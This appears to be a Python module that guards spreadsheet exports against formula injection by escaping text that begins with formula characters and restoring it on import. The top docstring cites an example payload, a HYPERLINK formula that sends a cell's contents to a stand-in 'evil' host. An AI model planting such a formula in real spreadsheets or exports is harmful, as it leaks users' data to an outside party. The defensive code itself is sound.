"""Spreadsheet formula injection (CSV/formula injection, OWASP): the one rule every export applies.

A customer named ``=HYPERLINK("http://evil/?"&A1,"Click")`` must not become a live formula in
the Boss's spreadsheet program: not when the file is opened, not when the cell is edited, and
not after the sheet is saved as CSV and opened again (which drops the xlsx cell types). So text
that a spreadsheet would read as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return) is written with an apostrophe in front, as OWASP recommends; the text after
it is unchanged, and the apostrophe is visible, so nothing is silently altered.

What is kept as it is, by cell type:

- numbers (int, float, Decimal) are written as numeric cells: a number cannot be a formula,
  and negative amounts must stay numbers the Boss can add up;
- text that is only a number or a telephone number (``+86 138 0013 8000``, ``-12.50``,
  ``+1 (415) 555-0100``: digits with spaces, dots, dashes and brackets, one leading sign) is
  left alone: it can call no function and reach nothing, and a phone number with a stray
  apostrophe would no longer dial or match;
- dates and booleans are written as fixed text that never starts with one of those characters.

Importing an exported file gives the original text back (``restore``): one apostrophe before one
of those characters is taken off. So that this is exact, text that already starts with
apostrophes before such a character gets one more on export (``'=x`` is written ``''=x``).
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9 ().\-]*\Z")


def _quoted(text: str) -> bool:
    """Apostrophes before a formula character: how ``neutralise`` writes such text."""
    return text.startswith("'") and text.lstrip("'").startswith(TRIGGERS)


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet must show it: inert, with an apostrophe before a formula."""
    if (text.startswith(TRIGGERS) and not _PLAIN_NUMBER.match(text)) or _quoted(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """The text ``neutralise`` was given, from what it wrote (applied to every imported cell)."""
    return text[1:] if _quoted(text) else text
